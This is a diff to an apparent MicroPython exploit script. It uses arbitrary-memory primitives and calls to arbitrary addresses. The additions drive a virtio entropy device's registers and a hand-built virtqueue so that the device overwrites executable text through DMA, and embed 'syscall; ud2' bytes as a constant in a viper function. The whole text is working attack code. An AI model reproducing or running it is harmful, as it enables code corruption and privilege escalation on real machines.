@@ -3,7 +3,9 @@
 
 import gc
 import sys
+import time
 
+import micropython
 import uctypes
 
 
@@ -51,6 +53,51 @@ def call3(address):
     """As call(), with rdi = 3, rsi = 3, rdx = 0x3fffffff7fffffff."""
     object_at(room(get(id(setattr)), address))(1, 1, 0x1FFFFFFFBFFFFFFF)
     print("called")
+
+
+def dma(address):
+    """Let the entropy device write four bytes over text, by a queue of our own (virtio 1.1, 4.2.2 and 2.6)."""
+
+    def register(offset, value):
+        uctypes.struct(device + offset, {"v": uctypes.UINT32}, uctypes.NATIVE).v = value
+
+    def look(offset):
+        return uctypes.struct(device + offset, {"v": uctypes.UINT32}, uctypes.NATIVE).v
+
+    device = 0xFEB00000
+    while (look(0), look(8)) != (0x74726976, 4):
+        device += 0x200
+    memory = bytearray(8192)
+    kept.append(memory)
+    descriptors = (uctypes.addressof(memory) + 4095) & ~4095
+    available, used = descriptors + 1024, descriptors + 2048
+    put(descriptors, address, 4 | 2 << 32)  # 4 bytes, the device writes them
+    put(available, 1 << 16)  # one entry: descriptor 0
+    before = get(address)
+    for status in (0, 1, 3):
+        register(0x70, status)
+    for half, features in ((1, 1), (0, 0)):  # VERSION_1
+        register(0x24, half)
+        register(0x20, features)
+    register(0x70, 0xB)
+    register(0x30, 0)
+    register(0x38, 8)
+    for offset, place in ((0x80, descriptors), (0x90, available), (0xA0, used)):
+        register(offset, place)
+        register(offset + 4, 0)
+    register(0x44, 1)
+    register(0x70, 0xF)
+    register(0x50, 0)
+    for _ in range(200):
+        if get(address) != before:
+            break
+        time.sleep_ms(10)
+    print("text changed", get(address) != before)
+
+
+@micropython.viper
+def privileged() -> int:
+    return 0x0B0F050F  # in the code, a constant that is: syscall; ud2
 
 
 def silence(address):
